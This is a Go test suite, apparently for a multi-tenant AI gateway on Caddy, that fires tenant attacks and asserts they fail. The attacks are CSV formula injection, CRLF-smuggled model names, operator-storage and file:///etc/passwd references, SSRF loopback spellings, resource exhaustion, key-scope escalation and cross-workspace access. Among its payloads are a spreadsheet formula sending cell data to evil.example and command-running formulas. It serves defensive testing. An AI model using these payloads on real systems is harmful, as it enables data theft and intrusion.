package caddymodule

// The hostile-tenant suite: attacks one tenant could make on the gateway, its operator or
// other tenants, each through a real Caddy (or the real binary), each asserting the safe
// outcome so a regression fails CI. Other lanes add their own TestHostile… tests beside
// their code.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/caddyserver/caddy/v2/caddyconfig"

	"github.com/badtheorylabs/btl-runtime/ledger"
	"github.com/badtheorylabs/btl-runtime/providers/simulated"
)

// hostileDo sends one request with key and returns status, headers and body.
func hostileDo(t *testing.T, method, url, key, body string, hdr ...string) (int, http.Header, []byte) {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	req, err := http.NewRequest(method, url, rd)
	if err != nil {
		t.Fatal(err)
	}
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, raw
}

// TestHostileCSVFormulaInjection: identifiers a tenant controls reach the finance export.
// Cells that a spreadsheet would run as formulas are neutralised; negative amounts in numeric
// columns stay numbers; identifiers with line breaks or control characters are refused where
// they enter (model names, key names).
func TestHostileCSVFormulaInjection(t *testing.T) {
	tl := newTestLedger(t, 10*ledger.Credit)
	now := time.Now().UTC().Truncate(time.Second)
	evil := ledger.Row{
		RequestID: "req_evil_1", Time: now.Add(-time.Minute), WorkspaceID: tl.workspace, KeyID: "-2+3", NodeID: "seed",
		RequestedModel: `=HYPERLINK("http://evil.example/?"&A1,"open")`, Provider: "+cmd|' /C calc'!A0",
		UpstreamModel: "@SUM(1+1)*cmd|' /C calc'!A0", CacheOutcome: "\t=1", ErrorCode: "\r=2",
		CostMicros: 50, BaselineMicros: 40, Status: 200, Attempts: 1,
	}
	func() {
		store, err := ledger.OpenSQLite(context.Background(), tl.db)
		if err != nil {
			t.Fatal(err)
		}
		defer store.Close()
		if err := store.InsertRows(context.Background(), "seed", []ledger.Row{evil}); err != nil {
			t.Fatal(err)
		}
	}()
	base := startGateway(t, tl.withStorage(`btl {
		provider sim simulated {
			models gpt-4o-mini
		}
	}`), fullChain)

	q := url.Values{"from": {now.Add(-time.Hour).Format(time.RFC3339)}, "to": {now.Add(time.Hour).Format(time.RFC3339)}, "format": {"csv"}}
	status, _, raw := hostileDo(t, http.MethodGet, base+"/v1/usage/export?"+q.Encode(), tl.ownerKey, "")
	if status != http.StatusOK {
		t.Fatalf("export: %d %s", status, raw)
	}
	recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export: %d records, %v\n%s", len(recs), err, raw)
	}
	col := map[string]int{}
	for i, name := range recs[0] {
		col[name] = i
	}
	row := recs[1]
	for _, name := range []string{"key_id", "requested_model", "provider", "upstream_model", "cache", "error_code"} {
		v := row[col[name]]
		if v == "" || strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			t.Errorf("%s cell %q would be run as a formula", name, v)
		}
	}
	if got, want := row[col["requested_model"]], "'"+evil.RequestedModel; got != want {
		t.Errorf("requested_model = %q, want %q (the original, neutralised)", got, want)
	}
	if got, want := row[col["saved_usd"]], (evil.BaselineMicros - evil.CostMicros).String(); got != want || !strings.HasPrefix(got, "-") {
		t.Errorf("saved_usd = %q, want the negative number %q", got, want)
	}

	// Identifiers with control characters are refused where they enter.
	for name, body := range map[string]string{
		"model with CRLF":   `{"model":"gpt-4o-mini\r\nX-Evil: 1","messages":[{"role":"user","content":"hi"}]}`,
		"model with NUL":    `{"model":"gpt-4o-mini\u0000","messages":[{"role":"user","content":"hi"}]}`,
		"model too long":    `{"model":"` + strings.Repeat("m", 300) + `","messages":[{"role":"user","content":"hi"}]}`,
		"model with bidi":   `{"model":"gpt\u202e-4o","messages":[{"role":"user","content":"hi"}]}`,
		"model with escape": `{"model":"\u001b[31mred","messages":[{"role":"user","content":"hi"}]}`,
	} {
		status, _, raw := hostileDo(t, http.MethodPost, base+"/v1/chat/completions", tl.ownerKey, body)
		if status != http.StatusBadRequest || !bytes.Contains(raw, []byte(`"param":"model"`)) {
			t.Errorf("%s: %d %s, want 400 on model", name, status, raw)
		}
	}
	for name, body := range map[string]string{
		"key name with CRLF": `{"name":"ci\r\n=cmd","scopes":["inference"]}`,
		"key name with tab":  `{"name":"ci\tkey","scopes":["inference"]}`,
	} {
		status, _, raw := hostileDo(t, http.MethodPost, base+"/v1/api-keys", tl.ownerKey, body)
		if status != http.StatusBadRequest || !bytes.Contains(raw, []byte(`"param":"name"`)) {
			t.Errorf("%s: %d %s, want 400 on name", name, status, raw)
		}
	}
}

// hostileEnv is a gateway over one simulator speaking Gemini, Vertex, Bedrock and OpenAI, with
// two workspaces: "allowed" may pass gs://allowed-bucket/shared/ and the file id file-ok; the
// other may pass nothing provider-side. extra goes into the btl block.
type hostileEnv struct {
	base               string
	sim                *simulated.Server
	simURL             string
	allowed, other     string // owner keys
	allowedWS, otherWS string
	tl                 *testLedger
}

func newHostileEnv(t *testing.T, extra string) *hostileEnv {
	t.Helper()
	tl := newTestLedger(t, 100*ledger.Credit)
	e := &hostileEnv{tl: tl, allowed: tl.ownerKey, allowedWS: tl.workspace}
	func() {
		store, err := ledger.OpenSQLite(context.Background(), tl.db)
		if err != nil {
			t.Fatal(err)
		}
		defer store.Close()
		ws, key, err := store.CreateWorkspace(context.Background(), "other", 100*ledger.Credit)
		if err != nil {
			t.Fatal(err)
		}
		e.other, e.otherWS = key, ws.ID
	}()
	e.sim = simulated.New(simulated.Options{})
	srv := httptest.NewServer(e.sim)
	t.Cleanup(srv.Close)
	e.simURL = srv.URL
	e.sim.SetAWSCredentials("us-east-1", gbAKID, gbSecret, "")
	e.sim.SetGeminiAPIKey(gbAPIKey)
	block := `btl {
		allow_file_uris ` + tl.workspace + ` gs://allowed-bucket/shared/ file-ok
		` + extra + `
		provider gem gemini {
			base_url ` + srv.URL + `
			api_key ` + gbAPIKey + `
		}
		provider bed bedrock {
			base_url ` + srv.URL + `
			region us-east-1
			access_key_id ` + gbAKID + `
			secret_access_key ` + gbSecret + `
		}
		provider oa openai_compatible {
			base_url ` + srv.URL + `/v1
			api_key sim-key
			models gpt-4o-mini
		}
	}`
	e.base = startGateway(t, tl.withStorage(block), fullChain)
	return e
}

// TestHostileProviderSideFileURIs: gs:// (and s3://, file ids) name the operator's storage and
// are read with the operator's identity. A tenant's request naming one is refused with a 400
// before any upstream call, through chat, /v1/messages and /v1/responses, unless the operator
// allowed that prefix for the tenant's workspace.
func TestHostileProviderSideFileURIs(t *testing.T) {
	e := newHostileEnv(t, "")
	chat := func(model, part string) string {
		return `{"model":"` + model + `","messages":[{"role":"user","content":[{"type":"text","text":"print this file"},` + part + `]}]}`
	}
	img := func(u string) string { return `{"type":"image_url","image_url":{"url":"` + u + `"}}` }
	const gem, bed, oa = "gem/gemini-2.5-flash", "bed/anthropic.claude-3-5-sonnet-20240620-v1:0", "oa/gpt-4o-mini"
	refused := []struct {
		name, key, path, body string
	}{
		{"gs via chat to gemini", e.other, "/v1/chat/completions", chat(gem, img("gs://operator-secrets/sa-key.png"))},
		{"gs upper-case scheme", e.other, "/v1/chat/completions", chat(gem, img("GS://operator-secrets/sa-key.png"))},
		{"s3 via chat to bedrock", e.other, "/v1/chat/completions", chat(bed, img("s3://operator-secrets/x.png"))},
		{"file id to gemini", e.other, "/v1/chat/completions", chat(gem, `{"type":"file","file":{"file_id":"file-operator"}}`)},
		{"file id to openai", e.other, "/v1/chat/completions", chat(oa, `{"type":"file","file":{"file_id":"file-operator"}}`)},
		{"file scheme", e.other, "/v1/chat/completions", chat(gem, img("file:///etc/passwd"))},
		{"another workspace's allowed prefix", e.other, "/v1/chat/completions", chat(gem, img("gs://allowed-bucket/shared/cat.png"))},
		{"outside the allowed prefix", e.allowed, "/v1/chat/completions", chat(gem, img("gs://allowed-bucket/private/x.png"))},
		{"dot-dot out of the prefix", e.allowed, "/v1/chat/completions", chat(gem, img("gs://allowed-bucket/shared/../private/x.png"))},
		{"bucket name extended", e.allowed, "/v1/chat/completions", chat(gem, img("gs://allowed-bucket-evil/shared/x.png"))},
		{"gs via /v1/messages", e.other, "/v1/messages",
			`{"model":"` + gem + `","max_tokens":50,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"gs://operator-secrets/sa-key.png"}}]}]}`},
		{"gs via /v1/responses", e.other, "/v1/responses",
			`{"model":"` + gem + `","input":[{"role":"user","content":[{"type":"input_image","image_url":"gs://operator-secrets/sa-key.png"}]}]}`},
		{"gs via /v1/responses to openai", e.other, "/v1/responses",
			`{"model":"` + oa + `","input":[{"role":"user","content":[{"type":"input_image","image_url":"gs://operator-secrets/sa-key.png"}]}]}`},
	}
	for _, tc := range refused {
		status, _, raw := hostileDo(t, http.MethodPost, e.base+tc.path, tc.key, tc.body)
		if status != http.StatusBadRequest {
			t.Errorf("%s: %d %s, want 400", tc.name, status, raw)
		}
		if last, ok := e.sim.LastGeminiRequest(); ok && (bytes.Contains(last.Body, []byte("operator")) || bytes.Contains(last.Body, []byte("private"))) {
			t.Fatalf("%s: the reference reached Gemini: %s", tc.name, last.Body)
		}
		if last, ok := e.sim.LastBedrockRequest(); ok && bytes.Contains(last.Body, []byte("operator")) {
			t.Fatalf("%s: the reference reached Bedrock: %s", tc.name, last.Body)
		}
	}
	// The operator's allowance works for its workspace, and only there.
	status, _, raw := hostileDo(t, http.MethodPost, e.base+"/v1/chat/completions", e.allowed, chat(gem, img("gs://allowed-bucket/shared/cat.png")))
	if status != http.StatusOK {
		t.Fatalf("allowed prefix: %d %s", status, raw)
	}
	if last, ok := e.sim.LastGeminiRequest(); !ok || !bytes.Contains(last.Body, []byte(`"fileUri":"gs://allowed-bucket/shared/cat.png"`)) {
		t.Errorf("allowed reference not sent as fileData: %s", last.Body)
	}
}

// imageServer serves PNG-looking images of ?kb= kilobytes on loopback and counts what it sends.
type imageServer struct {
	*httptest.Server
	gets, bytes atomic.Int64
}

func newImageServer(t *testing.T) *imageServer {
	s := &imageServer{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.gets.Add(1)
		kb, _ := strconv.Atoi(r.URL.Query().Get("kb"))
		w.Header().Set("Content-Type", "image/png")
		w.Header().Set("Content-Length", strconv.Itoa(8+kb<<10))
		n, _ := w.Write([]byte("\x89PNG\r\n\x1a\n"))
		chunk := make([]byte, 64<<10)
		for left := kb << 10; left > 0; left -= len(chunk) {
			m, err := w.Write(chunk[:min(left, len(chunk))])
			n += m
			if err != nil {
				break
			}
		}
		s.bytes.Add(int64(n))
	}))
	t.Cleanup(s.Close)
	return s
}

func imageChat(model, text string, urls ...string) string {
	parts := []string{`{"type":"text","text":"` + text + `"}`}
	for _, u := range urls {
		parts = append(parts, `{"type":"image_url","image_url":{"url":"`+u+`"}}`)
	}
	return `{"model":"` + model + `","messages":[{"role":"user","content":[` + strings.Join(parts, ",") + `]}]}`
}

// TestHostileImageInliningBudget: a 2 KB request naming 20 large images used to make a
// 533 MiB upstream body and download everything again on every retry. Now the request gets a
// 413 once its images pass the per-request total (20 MiB by default), no upstream is called,
// at most that much is downloaded, and an image is fetched once per request across retries
// and failover.
func TestHostileImageInliningBudget(t *testing.T) {
	imgs := newImageServer(t)
	e := newHostileEnv(t, `images {
			allow_private_addresses
		}
		model vision {
			candidates gem/gemini-2.5-flash bed/anthropic.claude-3-5-sonnet-20240620-v1:0
			strategy ordered
		}`)
	for _, model := range []string{"gem/gemini-2.5-flash", "bed/anthropic.claude-3-5-sonnet-20240620-v1:0"} {
		imgs.bytes.Store(0)
		urls := make([]string, 20)
		for i := range urls {
			urls[i] = imgs.URL + "/big" + strconv.Itoa(i) + ".png?kb=19456" // 19 MiB each, under the per-image cap
		}
		body := imageChat(model, "describe", urls...)
		status, _, raw := hostileDo(t, http.MethodPost, e.base+"/v1/chat/completions", e.allowed, body)
		if status != http.StatusRequestEntityTooLarge && status != http.StatusBadRequest {
			t.Errorf("%s: 20 large images: %d %s, want 413 or 400", model, status, raw)
		}
		if !bytes.Contains(raw, []byte(`"error"`)) {
			t.Errorf("%s: not an error envelope: %s", model, raw)
		}
		// The server counts what it wrote, socket buffers included, so allow some slack: the
		// point is 20 MiB, not the 380 MiB the images add up to.
		if got := imgs.bytes.Load(); got > 32<<20 {
			t.Errorf("%s: served %d MiB for one request (budget 20 MiB)", model, got>>20)
		}
		// Many small images: over the count.
		small := make([]string, 21)
		for i := range small {
			small[i] = imgs.URL + "/s" + strconv.Itoa(i) + ".png?kb=1"
		}
		status, _, raw = hostileDo(t, http.MethodPost, e.base+"/v1/chat/completions", e.allowed, imageChat(model, "describe", small...))
		if status != http.StatusBadRequest || !bytes.Contains(raw, []byte("too_many_images")) {
			t.Errorf("%s: 21 images: %d %s, want 400 too_many_images", model, status, raw)
		}
	}
	if last, ok := e.sim.LastGeminiRequest(); ok {
		t.Errorf("an over-budget request reached Gemini (%d bytes)", len(last.Body))
	}
	if last, ok := e.sim.LastBedrockRequest(); ok {
		t.Errorf("an over-budget request reached Bedrock (%d bytes)", len(last.Body))
	}

	// Every attempt fails (Gemini twice and more, then failover to Bedrock): each image is
	// still downloaded once.
	imgs.gets.Store(0)
	before := e.sim.Stats().Requests
	status, _, raw := hostileDo(t, http.MethodPost, e.base+"/v1/chat/completions", e.allowed,
		imageChat("vision", "[sim:status=503]", imgs.URL+"/r1.png?kb=4", imgs.URL+"/r2.png?kb=4"))
	if status/100 != 5 {
		t.Fatalf("faulted request: %d %s", status, raw)
	}
	attempts := e.sim.Stats().Requests - before
	if attempts < 3 {
		t.Fatalf("only %d upstream attempts; the test needs retries and a failover", attempts)
	}
	if n := imgs.gets.Load(); n != 2 {
		t.Errorf("%d image downloads over %d attempts, want 2 (once per image per request)", n, attempts)
	}
}

// TestHostileSlowBody: an authenticated request whose body never finishes used to hold its
// connection forever (400 of them held 76 MB). The handler's body deadline answers 408 and
// closes the connection; an answer that takes longer than the deadline after the body arrived
// is not cut.
func TestHostileSlowBody(t *testing.T) {
	tl := newTestLedger(t, 10*ledger.Credit)
	base := startGateway(t, tl.withStorage(`btl {
		body_timeout 1s
		provider sim simulated {
			models gpt-4o-mini
		}
	}`), fullChain)
	conn, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	partial := `{"model":"sim/gpt-4o-mini","messages":[{"role":"user","content":"hel`
	_, err = io.WriteString(conn, "POST /v1/chat/completions HTTP/1.1\r\nHost: "+strings.TrimPrefix(base, "http://")+"\r\nAuthorization: Bearer "+tl.ownerKey+
		"\r\nContent-Type: application/json\r\nContent-Length: 4096\r\n\r\n"+partial)
	if err != nil {
		t.Fatal(err)
	}
	// A safety net far beyond the deadline, so a regression fails instead of hanging the suite.
	_ = conn.SetReadDeadline(time.Now().Add(30 * time.Second))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("no answer to a stalled body: %v", err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestTimeout || !bytes.Contains(raw, []byte(`"request_timeout"`)) {
		t.Errorf("stalled body: %d %s, want 408 request_timeout", resp.StatusCode, raw)
	}
	if _, err := conn.Read(make([]byte, 1)); err == nil {
		t.Error("the connection stayed open after the body timeout")
	} else if ne, ok := err.(net.Error); ok && ne.Timeout() {
		t.Error("the connection stayed open after the body timeout (safety net hit)")
	}

	// The deadline covers the body only: an answer slower than it still arrives.
	status, _, raw := hostileDo(t, http.MethodPost, base+"/v1/chat/completions", tl.ownerKey,
		`{"model":"sim/gpt-4o-mini","messages":[{"role":"user","content":"slow [sim:ttfb=1500ms]"}]}`)
	if status != http.StatusOK {
		t.Errorf("slow answer after a prompt body: %d %s", status, raw)
	}
}

// accessLogBlock is the site's access log as the README and Caddyfile.example ship it.
func accessLogBlock(file string) string {
	return `	log {
		output file ` + file + `
		format filter {
			wrap json
			request>headers btl_secrets
			request>uri btl_secrets
		}
	}
`
}

// TestHostileSecretsNeverLogged: keys sent as x-api-key (every Anthropic SDK), api-key, in a
// custom header or the query string reached Caddy's access log in clear; Caddy redacts only
// Authorization (and not even that with log_credentials). With the shipped log filter, no
// secret appears in the access log, whatever header carries it, while the btl fields do.
func TestHostileSecretsNeverLogged(t *testing.T) {
	tl := newTestLedger(t, 10*ledger.Credit)
	logFile := filepath.Join(t.TempDir(), "access.log")
	const providerSecret = "sk-provider-secret-never-logged"
	base := startGateway(t, tl.withStorage(`servers {
		log_credentials
	}
	btl {
		provider sim simulated {
			api_key `+providerSecret+`
			models gpt-4o-mini
		}
	}`), accessLogBlock(logFile)+fullChain)
	key := tl.ownerKey
	secretPart := strings.TrimPrefix(key, "btl_")
	chat := `{"model":"sim/gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`
	send := func(method, path, body string, hdr ...string) int {
		status, _, _ := hostileDo(t, method, base+path, "", body, hdr...)
		return status
	}
	if s := send(http.MethodPost, "/v1/chat/completions", chat, "X-Api-Key", key); s != 200 {
		t.Fatalf("x-api-key chat: %d", s)
	}
	if s := send(http.MethodPost, "/v1/messages", `{"model":"sim/gpt-4o-mini","max_tokens":20,"messages":[{"role":"user","content":"hi"}]}`,
		"X-Api-Key", key, "Anthropic-Version", "2023-06-01"); s != 200 {
		t.Fatalf("x-api-key messages: %d", s)
	}
	send(http.MethodPost, "/v1/chat/completions", chat, "Authorization", "Bearer "+key)
	send(http.MethodPost, "/v1/chat/completions", chat, "Api-Key", key)
	send(http.MethodPost, "/v1/chat/completions", chat, "Authorization", "Bearer "+key, "X-Forwarded-Key", key, "Cookie", "session="+key)
	send(http.MethodGet, "/v1/models?key="+key+"&api_key="+secretPart, "", "Authorization", "Bearer "+key)
	send(http.MethodGet, "/v1/usage/summary?note="+key, "", "Authorization", "Bearer "+key)
	send(http.MethodGet, "/v1/api-keys/"+key, "", "Authorization", "Bearer "+key)
	send(http.MethodGet, "/healthz?key="+key, "", "X-Api-Key", key) // outside the API: logged all the same

	// The file is written as requests finish; the last request's line follows its response.
	var logged []byte
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		logged, _ = os.ReadFile(logFile)
		if bytes.Count(logged, []byte("\n")) >= 9 {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if n := bytes.Count(logged, []byte("\n")); n < 9 {
		t.Fatalf("access log has %d lines, want 9:\n%s", n, logged)
	}
	for _, secret := range []string{secretPart, providerSecret} {
		if bytes.Contains(logged, []byte(secret)) {
			t.Errorf("a secret reached the access log:\n%s", logged)
		}
	}
	if !bytes.Contains(logged, []byte(`"btl_key_id"`)) || !bytes.Contains(logged, []byte(`"X-Api-Key":["REDACTED"]`)) {
		t.Errorf("the access log lost its btl fields or headers:\n%s", logged)
	}
}

// TestHostileShippedConfigIsSafe: the example config that `make run` serves keeps its slow
// client timeouts and the secrets filter on both the access log and the default (error) log.
func TestHostileShippedConfigIsSafe(t *testing.T) {
	src, err := os.ReadFile("../Caddyfile.example")
	if err != nil {
		t.Fatal(err)
	}
	raw, _, err := caddyconfig.GetAdapter("caddyfile").Adapt(src, map[string]any{"filename": "Caddyfile.example"})
	if err != nil {
		t.Fatal(err)
	}
	var cfg struct {
		Apps struct {
			HTTP struct {
				Servers map[string]struct {
					ReadTimeout       int64 `json:"read_timeout"`
					ReadHeaderTimeout int64 `json:"read_header_timeout"`
					IdleTimeout       int64 `json:"idle_timeout"`
					WriteTimeout      int64 `json:"write_timeout"`
				} `json:"servers"`
			} `json:"http"`
		} `json:"apps"`
		Logging struct {
			Logs map[string]struct {
				Encoder struct {
					Format string `json:"format"`
					Fields map[string]struct {
						Filter string `json:"filter"`
					} `json:"fields"`
				} `json:"encoder"`
			} `json:"logs"`
		} `json:"logging"`
	}
	if err := json.Unmarshal(raw, &cfg); err != nil {
		t.Fatal(err)
	}
	for name, s := range cfg.Apps.HTTP.Servers {
		if s.ReadTimeout <= 0 || s.ReadHeaderTimeout <= 0 || s.IdleTimeout <= 0 {
			t.Errorf("server %s: read_body/read_header/idle timeouts missing: %+v", name, s)
		}
		if s.WriteTimeout != 0 {
			t.Errorf("server %s: a write timeout would cut long streams", name)
		}
	}
	// The README says the shipped config bounds request bodies with request_body.
	if !regexp.MustCompile(`"handler":"request_body","max_size":[1-9]`).Match(raw) {
		t.Errorf("no request_body max_size in Caddyfile.example")
	}
	if len(cfg.Logging.Logs) < 2 {
		t.Fatalf("want the default log and an access log, got %d logs", len(cfg.Logging.Logs))
	}
	for name, l := range cfg.Logging.Logs {
		for _, field := range []string{"request>headers", "request>uri"} {
			if l.Encoder.Format != "filter" || l.Encoder.Fields[field].Filter != "btl_secrets" {
				t.Errorf("log %s: %s is not filtered by btl_secrets", name, field)
			}
		}
	}
}

// TestHostileSSRFThroughImageURLs: image URLs that Gemini and Bedrock requests make the
// gateway download must never reach its own network: every loopback spelling is refused with
// a 400 and the loopback server sees no request. (Private, link-local and metadata ranges are
// checked on the address by TestHostileSSRFAddressForms, so no test sends them a packet.)
func TestHostileSSRFThroughImageURLs(t *testing.T) {
	imgs := newImageServer(t)
	e := newHostileEnv(t, "")
	port := imgs.URL[strings.LastIndexByte(imgs.URL, ':')+1:]
	targets := []string{
		"http://127.0.0.1:" + port + "/a.png", "http://localhost:" + port + "/a.png", "http://[::1]:" + port + "/a.png",
		"http://127.1:" + port + "/a.png", "http://2130706433:" + port + "/a.png", "http://0x7f000001:" + port + "/a.png",
		"http://[::ffff:127.0.0.1]:" + port + "/a.png", "http://0.0.0.0:" + port + "/a.png", "http://127.0.0.1.nip.invalid:" + port + "/a.png",
		"http://user:pass@127.0.0.1:" + port + "/a.png", "https://127.0.0.1:" + port + "/a.png",
	}
	for _, model := range []string{"gem/gemini-2.5-flash", "bed/anthropic.claude-3-5-sonnet-20240620-v1:0"} {
		for _, u := range targets {
			status, _, raw := hostileDo(t, http.MethodPost, e.base+"/v1/chat/completions", e.allowed, imageChat(model, "look", u))
			if status != http.StatusBadRequest {
				t.Errorf("%s %s: %d %s, want 400", model, u, status, raw)
			}
		}
	}
	if n := imgs.gets.Load(); n != 0 {
		t.Errorf("the loopback image server got %d requests", n)
	}
}

// TestHostileCountTokensBounded: /v1/messages/count_tokens is free to call, and 1 MB without
// a space used to cost minutes of CPU (quadratic BPE). It now answers promptly with a
// plausible count; the client-side timeout is only a safety net.
func TestHostileCountTokensBounded(t *testing.T) {
	tl := newTestLedger(t, 10*ledger.Credit)
	base := startGateway(t, tl.withStorage(`btl {
		provider sim simulated {
			models gpt-4o-mini
		}
	}`), fullChain)
	client := &http.Client{Timeout: 60 * time.Second}
	for name, run := range map[string]string{
		"ascii": strings.Repeat("a", 1<<20),
		"cjk":   strings.Repeat("漢字かな", 1<<20/12),
	} {
		body := `{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":"` + run + `"}]}`
		req, _ := http.NewRequest(http.MethodPost, base+"/v1/messages/count_tokens", strings.NewReader(body))
		req.Header.Set("X-Api-Key", tl.ownerKey)
		req.Header.Set("Content-Type", "application/json")
		started := time.Now()
		resp, err := client.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		var out struct {
			InputTokens int `json:"input_tokens"`
		}
		_ = json.NewDecoder(resp.Body).Decode(&out)
		resp.Body.Close()
		t.Logf("%s: 1 MiB without spaces counted in %v: %d tokens", name, time.Since(started).Round(time.Millisecond), out.InputTokens)
		if resp.StatusCode != http.StatusOK || out.InputTokens < len(run)/16 || out.InputTokens > len(run) {
			t.Errorf("%s: %d, %d tokens for %d bytes", name, resp.StatusCode, out.InputTokens, len(run))
		}
	}
}

// hostileKey mints a key with scopes through POST /v1/api-keys.
func hostileKey(t *testing.T, base, owner string, scopes ...string) (id, secret string) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"name": "hostile-" + strings.Join(scopes, "+"), "scopes": scopes})
	status, _, raw := hostileDo(t, http.MethodPost, base+"/v1/api-keys", owner, string(body))
	var out struct {
		ID  string `json:"id"`
		Key string `json:"key"`
	}
	if err := json.Unmarshal(raw, &out); err != nil || status != http.StatusOK && status != http.StatusCreated || out.Key == "" {
		t.Fatalf("create key %v: %d %s", scopes, status, raw)
	}
	return out.ID, out.Key
}

// TestHostileScopeEscalation: every route answers 403 to a key without the scope it needs
// (never 200, never another workspace's data), and a key cannot mint a scope it lacks.
func TestHostileScopeEscalation(t *testing.T) {
	e := newHostileEnv(t, "")
	_, inference := hostileKey(t, e.base, e.allowed, "inference")
	_, usage := hostileKey(t, e.base, e.allowed, "usage:read")
	_, keys := hostileKey(t, e.base, e.allowed, "keys:write")
	chat := `{"model":"oa/gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`
	routes := []struct {
		method, path, body string
		allowed            []string // scopes that may call it
	}{
		{"POST", "/v1/chat/completions", chat, []string{"inference"}},
		{"POST", "/v1/responses", `{"model":"oa/gpt-4o-mini","input":"hi"}`, []string{"inference"}},
		{"GET", "/v1/responses/resp_x", "", []string{"inference"}},
		{"DELETE", "/v1/responses/resp_x", "", []string{"inference"}},
		{"POST", "/v1/messages", `{"model":"oa/gpt-4o-mini","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}`, []string{"inference"}},
		{"POST", "/v1/messages/count_tokens", `{"model":"oa/gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`, []string{"inference"}},
		{"GET", "/v1/models", "", []string{"inference", "usage:read"}},
		{"GET", "/v1/providers", "", []string{"inference", "usage:read"}},
		{"GET", "/v1/usage/summary", "", []string{"usage:read"}},
		{"GET", "/v1/usage/requests", "", []string{"usage:read"}},
		{"GET", "/v1/usage/export?from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z", "", []string{"usage:read"}},
		{"GET", "/v1/account/pricing", "", []string{"usage:read"}},
		{"GET", "/v1/api-keys", "", []string{"keys:write"}},
		{"POST", "/v1/api-keys", `{"name":"x","scopes":["keys:write"]}`, []string{"keys:write"}},
		{"DELETE", "/v1/api-keys/key_x", "", []string{"keys:write"}},
		{"POST", "/v1/account/top-ups", `{"amount_usd":5}`, []string{"keys:write"}},
	}
	for _, rt := range routes {
		for scope, key := range map[string]string{"inference": inference, "usage:read": usage, "keys:write": keys} {
			ok := false
			for _, a := range rt.allowed {
				ok = ok || a == scope
			}
			status, _, raw := hostileDo(t, rt.method, e.base+rt.path, key, rt.body)
			if !ok && status != http.StatusForbidden {
				t.Errorf("%s %s with only %s: %d %s, want 403", rt.method, rt.path, scope, status, raw)
			}
			if ok && (status == http.StatusForbidden || status == http.StatusUnauthorized) {
				t.Errorf("%s %s with %s: %d %s", rt.method, rt.path, scope, status, raw)
			}
		}
		// No key, a malformed key, a key of the right shape that does not exist: 401.
		for _, bad := range []string{"", "btl_", "btl_" + strings.Repeat("A", 43), "sk-not-ours"} {
			if status, _, raw := hostileDo(t, rt.method, e.base+rt.path, bad, rt.body); status != http.StatusUnauthorized {
				t.Errorf("%s %s with key %q: %d %s, want 401", rt.method, rt.path, bad, status, raw)
			}
		}
	}
	// A keys:write key cannot hand out scopes it does not hold.
	for _, scopes := range []string{`["inference"]`, `["usage:read"]`, `["keys:write","inference"]`} {
		status, _, raw := hostileDo(t, http.MethodPost, e.base+"/v1/api-keys", keys, `{"name":"escalate","scopes":`+scopes+`}`)
		if status != http.StatusForbidden {
			t.Errorf("keys:write key minting %s: %d %s, want 403", scopes, status, raw)
		}
	}
}

// TestHostileCrossWorkspaceIDs: another workspace's ids — stored responses, key ids, request
// ids — are 404 (never their data), and query parameters cannot select another workspace.
func TestHostileCrossWorkspaceIDs(t *testing.T) {
	e := newHostileEnv(t, "")
	// Workspace A stores a response and makes a metered request.
	status, _, raw := hostileDo(t, http.MethodPost, e.base+"/v1/responses", e.allowed,
		`{"model":"oa/gpt-4o-mini","input":"A's confidential prompt","store":true}`)
	var resp struct {
		ID string `json:"id"`
	}
	if status != http.StatusOK || json.Unmarshal(raw, &resp) != nil || resp.ID == "" {
		t.Fatalf("store a response: %d %s", status, raw)
	}
	aKeyID, aKey := hostileKey(t, e.base, e.allowed, "inference")
	status, hdr, raw := hostileDo(t, http.MethodPost, e.base+"/v1/chat/completions", aKey, `{"model":"oa/gpt-4o-mini","messages":[{"role":"user","content":"A's secret"}]}`)
	if status != http.StatusOK {
		t.Fatalf("A chat: %d %s", status, raw)
	}
	aReq := hdr.Get("X-Btl-Request-Id")

	// Workspace B tries every door.
	for _, tc := range []struct{ method, path, body string }{
		{"GET", "/v1/responses/" + resp.ID, ""},
		{"GET", "/v1/responses/" + resp.ID + "/input_items", ""},
		{"DELETE", "/v1/responses/" + resp.ID, ""},
		{"POST", "/v1/responses", `{"model":"oa/gpt-4o-mini","input":"continue","previous_response_id":"` + resp.ID + `"}`},
		{"DELETE", "/v1/api-keys/" + aKeyID, ""},
	} {
		status, _, raw := hostileDo(t, tc.method, e.base+tc.path, e.other, tc.body)
		if status != http.StatusNotFound || bytes.Contains(raw, []byte("confidential")) {
			t.Errorf("B %s %s: %d %s, want 404", tc.method, tc.path, status, raw)
		}
	}
	// A's key still works after B's revocation attempt.
	if status, _, raw := hostileDo(t, http.MethodGet, e.base+"/v1/models", aKey, ""); status != http.StatusOK {
